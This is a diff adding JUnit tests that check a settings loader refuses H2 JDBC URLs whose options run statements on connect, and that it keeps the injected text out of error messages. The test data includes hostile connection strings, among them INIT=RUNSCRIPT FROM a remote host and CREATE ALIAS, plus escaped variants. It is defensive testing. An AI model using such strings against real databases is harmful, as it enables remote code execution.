@@ -10,6 +10,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.HashMap;
+import java.util.List;
 import java.util.Map;
 import java.util.Properties;
 import org.junit.jupiter.api.Tag;
@@ -112,6 +113,47 @@ class SettingsTest {
                 .isInstanceOf(SettingsException.class)
                 .hasMessageContainingAll(property, "\"" + value + "\"", expected)
                 .hasMessageMatching("[^\n]+");
+    }
+
+    /** Notes, security, section 2: H2 would run what some of its options say when it opens the database. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://192.0.2.7/hidden.sql'",
+                "jdbc:H2:mem:x;init=CREATE ALIAS hidden AS 'x'",
+                "jdbc:h2:file:./x;DB_CLOSE_DELAY=-1;TRACE_LEVEL_FILE=4;hidden",
+                "jdbc:h2:file:./x;MODE=PostgreSQL\\;INIT=hidden",
+                "jdbc:h2:file:./x;IN\\IT=hidden",
+                "jdbc:h2:file:./x; INIT=hidden",
+                "jdbc:h2:file:./x;PASSWORD=a;hidden",
+                "jdbc:h2:file:./x;FORBID_CREATION=hidden",
+            })
+    void optionsByWhichH2RunsStatementsAreRefusedAndNotRepeated(String url) {
+        for (String property : List.of("database.url", "crm.database.url")) {
+            Map<String, String> file = new HashMap<>(COMPLETE);
+            file.put(property, url);
+
+            assertThatThrownBy(() -> load(file))
+                    .isInstanceOf(SettingsException.class)
+                    .hasMessageStartingWith(property + " has as its option ")
+                    .hasMessageContaining("AUTO_SERVER=, ")
+                    .hasMessageNotContaining("hidden");
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:h2:file:./x;AUTO_SERVER=TRUE;",
+                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;lock_timeout=77;Mode=PostgreSQL;WRITE_DELAY=0;DB_CLOSE_ON_EXIT=FALSE",
+                "jdbc:postgresql://db/leadroutes?options=-c%20a=b;INIT=x",
+            })
+    void otherAddressesOfDatabasesAreTaken(String url) {
+        Map<String, String> file = new HashMap<>(COMPLETE);
+        file.put("database.url", url);
+        file.put("crm.database.url", url);
+
+        assertThat(load(file).text("crm.database.url")).isEqualTo(url);
     }
 
     @Test
